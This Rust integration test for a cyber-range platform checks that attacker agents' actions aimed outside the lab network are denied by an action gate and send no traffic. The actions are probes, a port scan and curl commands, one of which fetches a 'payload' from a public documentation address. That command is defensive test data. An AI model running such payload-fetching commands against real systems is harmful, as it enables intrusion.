//! Agents on a real lab: actions aimed outside the lab — another network's address (a listener
//! this test starts in a namespace of its own), the host's, a public one written in the script —
//! are denied by the action gate and never leave the agent's container, while an action inside
//! the lab really runs its tool. No traffic goes anywhere but the lab and the test's namespace:
//! the public address only ever reaches the gate.

use std::io::Read as _;
use std::process::{Child, Command, Stdio};
use std::sync::Arc;
use std::time::{Duration, Instant};

use forge_core::ScenarioId;
use forge_core::audit::MemoryAuditSink;
use forge_core::template::{ActionKind, AgentAction, load};
use forge_core::timeline::ActionOutcome;
use forge_lifecycle::agents::Agents;
use forge_runtime::{DockerRuntime, LabSpec, Runtime};

use crate::common::{Cleanup, TEST_RUN_LABEL, new_run_id};

const LAB: &str = r#"
apiVersion: frostgate.forge/v1
kind: ScenarioTemplate
metadata:
  name: agents-isolation-lab
  labels: [class:cissp, tier:foundation]
spec:
  limits: {cpu: 1, memory_mb: 256, attacker_max_exploits: 1, timeout_minutes: 10}
  network:
    egress: deny
    subnets: [{name: lan, cidr: 10.77.0.0/24}]
  assets:
    containers:
      - {name: red, image: forge/workstation:1, learner: true, networks: [{name: lan, address: 10.77.0.66}]}
      - {name: web, image: forge/web:1, networks: [{name: lan, address: 10.77.0.10}]}
  successCriteria:
    - id: up
      evidence: [{type: state, container: web}]
  solution:
    - {container: red, command: "true"}
  agents:
    - name: red
      role: attacker
      container: red
      actions:
        - {id: inside, kind: http_probe, target: 10.77.0.10}
"#;

/// The address of the test's own namespace, outside the lab's subnets.
const OTHER_NET: &str = "10.99.0.1";
const PORT: &str = "8080";

/// A network namespace of the test's, with a listener, removed on drop (also on failure).
struct Listener {
    ns: String,
    child: Child,
}

impl Listener {
    fn start(run: &str) -> Self {
        let ns = format!("forge_agt_{run}");
        let ip = |args: &[&str]| {
            let out = Command::new("ip").args(args).output().expect("ip");
            assert!(out.status.success(), "ip {args:?}: {out:?}");
        };
        ip(&["netns", "add", &ns]);
        let child = Command::new("ip")
            .args(["netns", "exec", &ns, "busybox", "nc", "-l", "-p", PORT])
            .stdout(Stdio::piped())
            .stderr(Stdio::null())
            .spawn()
            .expect("listener");
        let me = Self { ns, child };
        ip(&["-n", &me.ns, "link", "set", "lo", "up"]);
        ip(&[
            "-n",
            &me.ns,
            "addr",
            "add",
            &format!("{OTHER_NET}/32"),
            "dev",
            "lo",
        ]);
        me
    }

    fn listening(&self) -> bool {
        let out = Command::new("ip")
            .args(["netns", "exec", &self.ns, "busybox", "netstat", "-ltn"])
            .output()
            .expect("netstat");
        String::from_utf8_lossy(&out.stdout).contains(&format!(":{PORT}"))
    }

    /// Stops the listener and returns what reached it.
    fn received(mut self) -> String {
        let _ = self.child.kill();
        let _ = self.child.wait();
        let mut got = String::new();
        if let Some(mut out) = self.child.stdout.take() {
            let _ = out.read_to_string(&mut got);
        }
        got
    }
}

impl Drop for Listener {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
        let _ = Command::new("ip")
            .args(["netns", "delete", &self.ns])
            .output();
    }
}

fn action(id: &str, kind: ActionKind, target: Option<&str>, command: Option<&str>) -> AgentAction {
    let mut a: AgentAction =
        serde_json::from_value(serde_json::json!({"id": id, "kind": kind})).expect("an action");
    a.target = target.map(Into::into);
    a.command = command.map(Into::into);
    a.port = (kind == ActionKind::HttpProbe).then(|| PORT.parse().unwrap());
    a
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn actions_aimed_outside_the_lab_are_denied_and_never_leave_it() {
    let run = new_run_id();
    let cleanup = Cleanup::new(&run);
    let listener = Listener::start(&run);
    let start = Instant::now();
    while !listener.listening() {
        assert!(
            start.elapsed() < Duration::from_secs(5),
            "listener never listened"
        );
        std::thread::sleep(Duration::from_millis(50));
    }

    // Templates cannot name these targets (validation refuses them): edit a loaded one, as a
    // tampered catalog would, so only the gate stands in the way.
    let mut t = load("agents-isolation-lab.yaml", LAB).unwrap();
    t.spec.agents[0].actions.extend([
        action("other-net", ActionKind::HttpProbe, Some(OTHER_NET), None),
        action(
            "other-net-in-command",
            ActionKind::Exec,
            None,
            Some(&format!("curl -s -m 3 http://{OTHER_NET}:{PORT}/")),
        ),
        action("host", ActionKind::HttpProbe, Some("172.17.0.1"), None),
        // Documentation range (RFC 5737): a public address, only ever shown to the gate.
        action("public", ActionKind::PortScan, Some("203.0.113.7"), None),
        action(
            "public-exploit",
            ActionKind::Exploit,
            Some("10.77.0.10"),
            Some("curl -s -m 3 http://198.51.100.7/payload"),
        ),
    ]);
    let rt = Arc::new(DockerRuntime::connect().await.expect("docker"));
    let scenario = ScenarioId::generate();
    cleanup.saw(scenario.as_str());
    let mut spec = LabSpec::new(scenario.clone(), "agents-test", t.clone());
    spec.labels.insert(TEST_RUN_LABEL.into(), run.clone());
    // A lab without a host label predates lab hosts, and any platform running on this engine
    // (`forge up`, another test's) would reap it as its own leftover.
    spec.labels.insert(
        forge_lifecycle::orchestrator::HOST_LABEL.into(),
        format!("agents-test-{run}"),
    );
    rt.launch(spec).await.expect("lab launches");

    let audit = Arc::new(MemoryAuditSink::default());
    let policy = forge_policy::EmbeddedEngine::builder().build().unwrap();
    let agents = Agents::new(rt.clone(), Arc::new(policy), audit.clone());
    for rx in agents.start(&scenario, Arc::new(t)) {
        tokio::time::timeout(Duration::from_secs(60), rx)
            .await
            .expect("actions due at start run")
            .unwrap();
    }
    let timeline = agents.stop(&scenario).unwrap();
    // Give anything that did leave time to arrive before the listener is read.
    tokio::time::sleep(Duration::from_secs(2)).await;
    let received = listener.received();
    rt.teardown(&scenario).await.expect("teardown");

    let by_id = |id: &str| {
        timeline
            .entries
            .iter()
            .find(|e| e.action == id)
            .unwrap_or_else(|| panic!("no `{id}` in {timeline:?}"))
    };
    let inside = by_id("inside");
    assert_eq!(inside.outcome, ActionOutcome::Succeeded, "{inside:?}");
    assert_eq!(inside.output, "200", "{inside:?}");
    for id in [
        "other-net",
        "other-net-in-command",
        "host",
        "public",
        "public-exploit",
    ] {
        let e = by_id(id);
        assert_eq!(e.outcome, ActionOutcome::Denied, "{e:?}");
        assert_eq!(e.exit_code, None, "{e:?}");
        assert!(
            e.gate.reasons.iter().any(|r| r.contains("outside the lab")),
            "{e:?}"
        );
    }
    assert_eq!(timeline.entries.last().unwrap().exploits_used, 0);
    assert!(received.is_empty(), "the listener got: {received:?}");
    let denied = audit
        .events()
        .into_iter()
        .filter(|e| e.event_type == "agent.action" && e.details["allow"] == false)
        .count();
    assert_eq!(denied, 5);
}

/// The agent labs pass `forge template test` with their agents really acting (the CLI's own
/// path: the worker's runner under the bundled action gate): the untouched lab fails its
/// criteria after the attack (or, for the defended host, before the learner's attack), the
/// solution makes every criterion pass, and the agents acted without a denial.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_agent_labs_pass_template_test_with_their_agents_acting() {
    let run = new_run_id();
    let cleanup = Cleanup::new(&run);
    let rt = Arc::new(DockerRuntime::connect().await.expect("docker"));
    let catalog = forge_runtime::ImageCatalog::discover(None).expect("image catalog");
    let refs = [
        "forge/firewall:1",
        "forge/ssh-server:1",
        "forge/workstation:1",
        "forge/web-nginx:1",
    ];
    rt.ensure_images(&catalog, &refs, false)
        .await
        .expect("images build");
    let policy = forge_policy::EmbeddedEngine::builder().build().unwrap();
    let audit = Arc::new(MemoryAuditSink::default());
    let agents = Agents::new(rt.clone(), Arc::new(policy), audit.clone());
    let labels = [(TEST_RUN_LABEL.to_owned(), run.clone())].into();
    let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../../templates");
    for file in [
        "cissp-live-bruteforce.yaml",
        "cissp-web-exploit.yaml",
        "cissp-defended-host.yaml",
    ] {
        let text = std::fs::read_to_string(dir.join(file)).unwrap();
        let t = load(file, &text).unwrap();
        let scenario = ScenarioId::generate();
        cleanup.saw(scenario.as_str());
        let report = forge_runtime::template_test::test_template_with(
            rt.as_ref(),
            scenario.clone(),
            file,
            &t,
            &labels,
            Some(&agents),
        )
        .await;
        assert!(report.passed(), "{}", report.render());
        assert!(report.rows.iter().any(|r| !r.before), "{}", report.render());
        let summary = report.agents.clone().unwrap_or_default();
        assert!(
            summary.contains(" 0 denied, 0 errors"),
            "{}",
            report.render()
        );
        let acted = audit
            .events()
            .into_iter()
            .filter(|e| e.event_type == "agent.action" && e.resource_id == scenario.as_str())
            .count();
        assert!(acted >= 2, "{file}: {acted} agent actions audited");
    }
}
